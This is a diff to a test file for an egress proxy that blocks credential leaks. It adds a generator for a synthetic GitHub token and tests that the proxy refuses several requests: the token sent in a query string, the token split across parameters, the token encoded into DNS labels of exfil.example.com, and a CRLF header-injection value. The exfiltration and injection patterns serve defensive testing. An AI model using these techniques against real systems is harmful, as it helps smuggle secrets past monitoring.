@@ -14,6 +14,7 @@ import {
 import { createServer as createHttpsServer, type Server as HttpsServer } from 'node:https';
 import { connect, type AddressInfo, type Socket } from 'node:net';
 import { connect as tlsConnect } from 'node:tls';
+import { crc32 } from 'node:zlib';
 import { after, before, describe, it } from 'node:test';
 import type { AuditRecord } from '@perimeter/audit';
 import { createEngine, loadPolicies } from '@perimeter/policy';
@@ -208,6 +209,20 @@ function viaForward(url: string, headers: Record<string, string> = {}): Promise<
   });
 }
 
+/** A GitHub token of the 2021 format with a right CRC32 checksum (base62, 0-9A-Za-z). */
+function githubToken(): string {
+  const alphabet = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
+  let body = '';
+  for (let i = 0; i < 30; i++) body += alphabet[(i * 7 + 13) % 62];
+  let n = crc32(body);
+  let sum = '';
+  do {
+    sum = (alphabet[n % 62] ?? '') + sum;
+    n = Math.floor(n / 62);
+  } while (n > 0);
+  return `ghp_${body}${sum.padStart(6, '0')}`;
+}
+
 function placeholder(id: string): string {
   return slots.find((s) => s.id === id)?.placeholder ?? '';
 }
@@ -335,6 +350,58 @@ describe('credential leaks', () => {
     assert.equal(socketReply.status, 421);
     assert.equal(seen.length, 0);
     assert.ok(records.some((r) => r.type === 'network.fronting-refused'));
+  });
+
+  it('egress-dlp-01: a GitHub token with a valid checksum in the query to an inspected host is refused', async () => {
+    fresh();
+    const reply = await viaConnect('other.example.com', { path: `/collect?t=${githubToken()}` });
+    assert.equal(reply.status, 403);
+    assert.match(reply.headers['x-perimeter-reason'] as string, /github/i);
+    assert.equal(seen.length, 0);
+    assert.equal(records.find((r) => r.type === 'network.secret')?.severity, 'high');
+  });
+
+  it('egress-dlp-05: a token cut across query parameters is refused', async () => {
+    fresh();
+    const token = githubToken();
+    const reply = await viaConnect('other.example.com', {
+      path: `/c?a=${token.slice(0, 12)}&b=${token.slice(12, 26)}&c=${token.slice(26)}`,
+    });
+    assert.equal(reply.status, 403);
+    assert.equal(seen.length, 0);
+  });
+
+  it('egress-dlp-03: a token spelled across the labels of a host name is refused before any lookup', async () => {
+    fresh();
+    const token = githubToken();
+    const host = `${token.slice(0, 4).replace('_', '-')}${token.slice(4, 20)}.${token.slice(20)}.exfil.example.com`;
+    const reply = await viaConnect(host);
+    assert.equal(reply.status, 403);
+    assert.ok(records.some((r) => r.type === 'network.secret' && r.severity === 'high'));
+    assert.ok(records.some((r) => r.type === 'network.connect' && r.decision === 'deny'));
+  });
+
+  it('the placeholder as a host label is refused before any lookup', async () => {
+    fresh();
+    const reply = await viaConnect(`${placeholder('github').toLowerCase()}.example.com`);
+    assert.equal(reply.status, 403);
+    assert.ok(records.some((r) => r.type === 'credential.exfiltration'));
+  });
+
+  it('a stored value with a line break is never put in a header', () => {
+    const engine = createEngine(
+      loadPolicies([{ file: 'p.yaml', text: POLICY }]).policies.map((p) => p.policy),
+      { context: { home: '/h', workspace: '/w' } },
+    );
+    const slot = { ...(slots[0] as CredentialSlot), value: 'line one\r\nX-Injected: yes' };
+    const guard = createCredentialGuard({ engine, slots: [slot] });
+    const result = guard.inspect(
+      { method: 'GET', target: '/', headers: [['Authorization', `Bearer ${slot.placeholder}`]] },
+      Buffer.alloc(0),
+      { host: 'api.example.com', port: 443, isVerifiedTls: true },
+    );
+    assert.equal(result.refusal?.status, 403);
+    assert.match(result.refusal?.reason ?? '', /line break/);
   });
 
   it('egress-cred-08: no audit record of these cases holds the real value in any rendering', () => {
